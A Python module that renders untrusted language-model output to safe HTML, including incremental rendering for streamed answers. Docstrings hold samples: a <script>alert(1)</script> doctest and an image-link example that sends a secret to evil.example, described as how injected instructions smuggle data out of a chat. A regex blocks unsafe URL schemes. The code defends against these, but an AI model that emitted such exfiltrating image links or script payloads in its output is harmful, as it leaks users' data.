"""Safe markdown rendering for untrusted model output, whole or while it streams.

Model output is untrusted: :func:`render_markdown` uses markdown-it in CommonMark
mode (plus tables and strikethrough) with raw HTML *disabled*, so ``<script>``,
``<img onerror=…>`` or ``<iframe>`` in an answer come out as visible, escaped
text, and links or images whose URL uses a ``javascript:``, ``vbscript:``,
``file:`` or ``data:`` scheme are left as plain text instead of becoming links.
Images become links too, so that showing an answer never fetches a URL the model
chose.

:class:`IncrementalMarkdown` serves the live display: it holds a growing
document, hands out the HTML of top-level blocks as soon as they are final, and
keeps only the unfinished tail, so each update re-parses and resends just that
tail::

    doc = IncrementalMarkdown()
    doc.append("# Title\\n\\nFirst para")
    if doc.worth_splitting():
        final_html = doc.split()   # "<h1>Title</h1>\\n": the heading can no longer change
    live_html = doc.render_tail()  # "<p>First para</p>\\n": may still change

:class:`MarkdownColumn` builds on it to show a streamed text as a column of
displays (closed ones, then one live one) with bounded, linear resends.
"""

from __future__ import annotations

import math
import re
import uuid
from collections.abc import Callable, Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

__all__ = ["IncrementalMarkdown", "MarkdownColumn", "Show", "render_markdown"]

Show = Callable[[str, str], int]
"""Shows HTML in a display (created on first use) and returns the bytes sent."""

_UNSAFE_SCHEME = re.compile(r"(?:javascript|vbscript|file|data):")
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]+")
# Tails up to this many characters are re-parsed whenever a line completes;
# longer ones only when they grew by a quarter (or when the caller forces it).
_SMALL_TAIL = 4096
# Top-level blocks that no later line can extend once a blank line follows them.
_ENDED_BY_BLANK = frozenset({"paragraph_open", "blockquote_open", "table_open"})
# Top-level blocks that are final as soon as their last line is complete.
_SELF_CLOSING = frozenset({"heading_open", "hr"})


class _SafeMarkdownIt(MarkdownIt):
    """markdown-it with a stricter link filter than the default one."""

    def validateLink(self, url: str) -> bool:
        """Refuse scripting, file and *all* ``data:`` URLs (the default allows data images).

        Browsers ignore ASCII whitespace and control characters in a URL's scheme,
        so they are dropped before the check.
        """
        cleaned = _IGNORED_IN_URL.sub("", url).lower()
        return _UNSAFE_SCHEME.match(cleaned) is None


def _image_as_link(
    renderer: RendererHTML,
    tokens: Sequence[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    """Render ``![alt](src)`` as a link: the browser fetches nothing on its own.

    An auto-loaded image URL is the classic way for injected instructions to
    smuggle data out of a chat (``![](https://evil.example/?q=SECRET)``).
    """
    token = tokens[idx]
    alt = renderer.renderInlineAsText(token.children, options, env)
    label = escapeHtml(f"[image: {alt}]" if alt else "[image]")
    src = token.attrGet("src")
    return f'<a href="{escapeHtml(str(src))}">{label}</a>' if src else label


def _make_parser() -> MarkdownIt:
    md = _SafeMarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _image_as_link)
    return md


_MARKDOWN = _make_parser()
_OPTIONS = _MARKDOWN.options


def render_markdown(text: str) -> str:
    """Render untrusted markdown to HTML that is safe to display as trusted output.

    >>> render_markdown("**hi** <script>alert(1)</script>")
    '<p><strong>hi</strong> &lt;script&gt;alert(1)&lt;/script&gt;</p>\\n'
    """
    result: str = _MARKDOWN.render(text)
    return _style_code(result)


_PRE_STYLE = "background:var(--jp-layout-color2,#f3f4f6);padding:0.5em 0.75em;border-radius:3px"


def _style_code(html: str) -> str:
    """Give code blocks a background. Raw HTML from the model is escaped by the
    renderer, so every ``<pre>`` in ``html`` is one of ours."""
    return html.replace("<pre>", f'<pre style="{_PRE_STYLE}">')


def _line_offset(text: str, line: int) -> int:
    """Index in ``text`` where line number ``line`` (0-based) starts."""
    offset = 0
    for _ in range(line):
        offset = text.index("\n", offset) + 1
    return offset


def _closing_fence(markup: str, *, strict: bool = True) -> re.Pattern[str]:
    """Pattern for a line closing a top-level fence opened by ``markup``.

    The loose variant (any indentation) only decides when re-parsing is worth it.
    """
    indent = " {0,3}" if strict else "[ \t]*"
    char = re.escape(markup[0])
    return re.compile(rf"^{indent}{char}{{{len(markup)},}}[ \t]*$", re.MULTILINE)


class IncrementalMarkdown:
    """A growing markdown document, split into final blocks and an unfinished tail.

    Only complete lines decide what is final (a partial line such as ``|-`` or
    ``==`` could still turn into anything). A top-level block is final when a
    later top-level block has started, when it is a heading, a rule or a closed
    code fence, or when a blank line follows a paragraph, block quote or table
    (lists and indented code can continue after a blank line). Parsing a prefix
    that ends at a final block gives exactly the blocks of the whole document,
    so the concatenated output equals :func:`render_markdown` of the whole text;
    the one exception is reference-style links defined after a block that uses
    them, which :attr:`saw_references` reports so the caller can re-render once.

    Cost stays linear: :meth:`worth_splitting` is a cheap check that avoids
    re-parsing a long unfinished block (say a 2,000-line code fence) on every
    update; inside an open fence it only scans new lines for a closing fence, and
    :meth:`split_fence` hands out the fence's finished lines in pieces.
    """

    def __init__(self) -> None:
        self._tail = ""
        self._cr_pending = False
        self._checked = 0  # length of the tail's complete-line prefix at the last split
        self._scanned = 0  # how far new lines were scanned for a closing fence
        self._fence: re.Pattern[str] | None = None  # set while the tail is an open fence
        self._continued = False  # the tail's open fence continues one cut by split_fence
        self.saw_references = False

    @property
    def tail(self) -> str:
        """The unfinished source (normalised newlines), not yet handed out by :meth:`split`."""
        return self._tail

    @property
    def in_fence(self) -> bool:
        """Whether the tail is an open top-level code fence (split only on a closing line)."""
        return self._fence is not None

    def append(self, text: str) -> None:
        """Add streamed text; ``\\r\\n`` and ``\\r`` become ``\\n`` as markdown-it would do."""
        if self._cr_pending:
            text = "\r" + text
        self._cr_pending = text.endswith("\r")
        if self._cr_pending:
            text = text[:-1]
        if "\r" in text:
            text = text.replace("\r\n", "\n").replace("\r", "\n")
        self._tail += text

    def flush(self) -> None:
        """Call at the end of the stream: a held-back trailing ``\\r`` becomes a newline."""
        if self._cr_pending:
            self._cr_pending = False
            self._tail += "\n"

    def has_new_lines(self) -> bool:
        """Whether a line was completed since the last :meth:`split`."""
        return self._tail.rfind("\n") + 1 > self._checked

    def worth_splitting(self) -> bool:
        """Cheap check: could :meth:`split` find a final block now?

        Always true for short tails. For a long tail it is true once the tail grew
        by a quarter since the last split, or, inside an open code fence, only
        when a new line looks like the closing fence.
        """
        end = self._tail.rfind("\n") + 1
        if end <= self._checked:
            return False
        if self._fence is not None:
            found = self._fence.search(self._tail, self._scanned, end) is not None
            self._scanned = end
            return found
        return end <= _SMALL_TAIL or end >= self._checked * 1.25

    def split(self) -> str:
        """Cut the final blocks off the tail and return their HTML ("" if none is final)."""
        end = self._tail.rfind("\n") + 1
        self._checked = self._scanned = end
        self._fence = None
        if end == 0:
            return ""
        complete = self._tail[:end]
        env: dict[str, Any] = {}
        tokens = _MARKDOWN.parse(complete, env)
        if env.get("references"):
            self.saw_references = True
        starts = [
            n for n, t in enumerate(tokens) if t.level == 0 and t.nesting >= 0 and t.map is not None
        ]
        if not starts:
            return ""  # blank lines or a reference definition: its title may follow
        last = tokens[starts[-1]]
        assert last.map is not None
        start, stop = last.map
        line_count = complete.count("\n")
        if self._is_final(last.type, last.markup, complete, start, stop, line_count):
            cut_line, cut_token = line_count, len(tokens)
        else:
            cut_line, cut_token = start, starts[-1]
            if last.type == "fence":
                self._fence = _closing_fence(last.markup, strict=False)
        if cut_line == 0:
            return ""
        offset = end if cut_line == line_count else _line_offset(complete, cut_line)
        html = self._patch_fence(_MARKDOWN.renderer.render(tokens[:cut_token], _OPTIONS, env))
        self._continued = False
        self._tail = self._tail[offset:]
        self._checked -= offset
        self._scanned -= offset
        return html

    def split_fence(self, min_chars: int) -> str:
        """Inside a long open code fence, cut its checked lines off as a fence of their own.

        The tail keeps the opening line, so it still renders as the same fence and
        the pieces hold the same code, as consecutive ``<pre>`` elements styled to
        sit flush. Returns "" until ``min_chars`` of code lines are ready.
        """
        if self._fence is None:
            return ""
        opening_end = self._tail.index("\n") + 1
        if self._scanned - opening_end < min_chars:
            return ""
        html = self._render(self._tail[: self._scanned], last=False)
        self._tail = self._tail[:opening_end] + self._tail[self._scanned :]
        self._checked = self._scanned = opening_end
        self._continued = True
        return html

    @staticmethod
    def _is_final(
        kind: str, markup: str, complete: str, start: int, stop: int, line_count: int
    ) -> bool:
        if kind in _SELF_CLOSING:
            return True
        if kind in _ENDED_BY_BLANK:
            return stop < line_count
        if kind == "fence":
            if stop < line_count:
                return True
            if stop - start < 2:
                return False
            last_line = complete[complete.rfind("\n", 0, len(complete) - 1) + 1 : -1]
            return _closing_fence(markup).match(last_line) is not None
        return False

    def render_tail(self) -> str:
        """HTML of the unfinished tail, including a partial last line."""
        return self._render(self._tail)

    def _render(self, text: str, *, last: bool = True) -> str:
        env: dict[str, Any] = {}
        html: str = _MARKDOWN.render(text, env)
        if env.get("references"):
            self.saw_references = True
        return self._patch_fence(html, last=last)

    def _patch_fence(self, html: str, *, last: bool = True) -> str:
        """Let the ``<pre>`` pieces of one fence split by :meth:`split_fence` sit flush."""
        if (self._continued or not last) and html.startswith("<pre>"):
            style = "".join(
                f";{prop}-{side}:0"
                for side, keep in (("top", not self._continued), ("bottom", last))
                if not keep
                for prop in ("margin", "padding")
            )
            html = f'<pre style="{_PRE_STYLE}{style}">{html[5:]}'
        return _style_code(html)


_FENCE_PIECE = 512  # code of an open fence cut off into a display of its own
_PACE = 3.0  # a redraw costing N bytes waits for N / _PACE new characters
_BUDGET_SLACK = 512
_LARGE_TAIL = 2048  # longer unfinished tails redraw only after +50% or a second
_SLOW_INTERVAL = 1.0
_WINDOW_INTERVAL = 0.25  # a windowed column redraws at most this often


class MarkdownColumn:
    """One streamed markdown text, shown as closed displays followed by one live display.

    Final blocks gather in the live display until they weigh ``piece`` bytes (a
    long open code fence is cut into pieces of its own); the display then gets them
    one last time, the unfinished tail moves to a new live display below, and the
    closed display is never sent again. Other redraws are optional and skipped
    when bytes sent plus twice the live display's size (it must still be sent at
    the end) would pass ``budget`` bytes per character received, when fewer than
    size / ``_PACE`` characters arrived since the last one, for a long unfinished
    tail before it grew by half or a second passed, or while ``room()`` (the
    caller's message rate limit) is under one message; a close waits for two.

    With ``window`` set (a text that is re-sent whole later, like the reasoning),
    there is no byte budget: the live display shows only the last ``window``
    characters of the tail and redraws on a timer instead.
    """

    def __init__(
        self,
        show: Show,
        wrap: Callable[[str], str],
        *,
        budget: float = math.inf,
        piece: int,
        room: Callable[[], float] = lambda: math.inf,
        window: int | None = None,
    ) -> None:
        self._show = show
        self._window = window
        self._room = room
        self._wrap = wrap
        self._budget = budget
        self._piece = piece
        self._doc = IncrementalMarkdown()
        self.source: list[str] = []
        self.ids: list[str] = []
        self.closed = False
        self.stale = False
        self._live: str | None = None
        self._done: list[str] = []
        self._done_len = 0
        self._close_due = False
        self._chars = 0
        self._sent = 0
        self._ratio = 1.2  # HTML characters per tail character, as last measured
        self._shown_len = 0
        self._chars_shown = 0
        self._shown_at = -math.inf
        self._split_at = -math.inf

    @property
    def busy(self) -> bool:
        """Whether :meth:`update` has something to send (a redraw or a piece to close)."""
        return self.stale or self._close_due

    @property
    def has_text(self) -> bool:
        """Whether any (possibly blank) text arrived."""
        return self._chars > 0

    def append(self, text: str) -> None:
        """Add a delta; after :meth:`finish` or :meth:`replace` it is only recorded."""
        self.source.append(text)
        if self.closed:
            return
        self._doc.append(text)
        self._chars += len(text)
        self.stale = True

    def update(self, now: float) -> None:
        """Close finished blocks, then redraw the live display if worth it."""
        doc = self._doc
        finished = ""
        if doc.has_new_lines() and (
            doc.worth_splitting() or (not doc.in_fence and now - self._split_at >= _SLOW_INTERVAL)
        ):
            self._split_at = now
            finished = doc.split()
        code = doc.split_fence(_FENCE_PIECE) if doc.in_fence else ""
        if finished or code:
            self._done.append(finished + code)
            self._done_len += len(finished) + len(code)
            self._close_due = bool(code) or self._done_len >= self._piece
        # Closing takes two messages: the finished part, then the tail moving down.
        if self._close_due and self._room() >= 2:
            self._send(self._live_id(), self._wrap("".join(self._done)))
            self._live, self._done, self._done_len, self._close_due = None, [], 0, False
            self._redraw(now, force=True)
            return
        if self.stale:
            self._redraw(now)

    def _redraw(self, now: float, *, force: bool = False) -> None:
        tail_len = len(self._doc.tail)
        force = force or not self.ids
        if self._window is not None:
            self._redraw_window(now, force=force)
            return
        allowance = self._budget * self._chars + _BUDGET_SLACK - self._sent
        if not force:
            estimate = self._done_len + tail_len * self._ratio + 64
            if 2 * estimate > allowance:
                return
            if (self._chars - self._chars_shown) * _PACE < estimate:
                return
            grew = tail_len >= 1.5 * self._shown_len
            if tail_len > _LARGE_TAIL and not grew and now - self._shown_at < _SLOW_INTERVAL:
                return
            if self._room() < 1:
                return
        tail_html = self._doc.render_tail()
        if tail_len >= 256:
            self._ratio = min(max(len(tail_html) / tail_len, 1.0), 4.0)
        body = "".join(self._done) + tail_html
        if not body.strip() and self._live is None:
            self.stale = False
            return
        page = self._wrap(body)
        if not force and 2 * len(page) > allowance:
            return
        self._send(self._live_id(), page)
        self.stale = False
        self._shown_len, self._shown_at = tail_len, now
        self._chars_shown = self._chars

    def _redraw_window(self, now: float, *, force: bool) -> None:
        """Live view of a text that is re-sent whole later (the reasoning).

        Only the last ``window`` characters of the unfinished tail are shown, at
        most every ``_WINDOW_INTERVAL`` seconds: each redraw costs a bounded number
        of bytes, so a long paragraph keeps moving instead of exhausting a per-
        character budget, and the bytes grow with the stream's duration, never with
        the square of its length.
        """
        if not force and (now - self._shown_at < _WINDOW_INTERVAL or self._room() < 1):
            return
        tail = self._doc.tail
        window = self._window or 0
        if len(tail) > window:
            cut = tail[-window:]
            space = cut.find(" ")
            cut = cut[space + 1 :] if 0 <= space < 40 else cut
            tail_html = render_markdown("… " + cut)
        else:
            tail_html = self._doc.render_tail()
        body = "".join(self._done) + tail_html
        if not body.strip() and self._live is None:
            self.stale = False
            return
        self._send(self._live_id(), self._wrap(body))
        self.stale = False
        self._shown_len, self._shown_at = len(tail), now
        self._chars_shown = self._chars

    def finish(self) -> None:
        """Send the final render (idempotent)."""
        if self.closed:
            return
        self.closed = True
        self._doc.flush()
        body = "".join(self._done) + self._doc.render_tail()
        if body or self._live is not None:
            self._send(self._live_id(), self._wrap(body))
        if self._doc.saw_references:
            # A reference definition may resolve links in blocks already sent.
            self.replace(self._wrap(render_markdown("".join(self.source))))

    def replace(self, page: str) -> None:
        """Show ``page`` in the first display and empty the others (one resend)."""
        self.closed = True
        self.stale = False
        if not self.ids:
            if not page:
                return
            self.ids.append(uuid.uuid4().hex)
        self._send(self.ids[0], page)
        for display_id in self.ids[1:]:
            self._send(display_id, "")

    def _live_id(self) -> str:
        if self._live is None:
            self._live = uuid.uuid4().hex
            self.ids.append(self._live)
        return self._live

    def _send(self, display_id: str, page: str) -> None:
        self._sent += self._show(display_id, page)
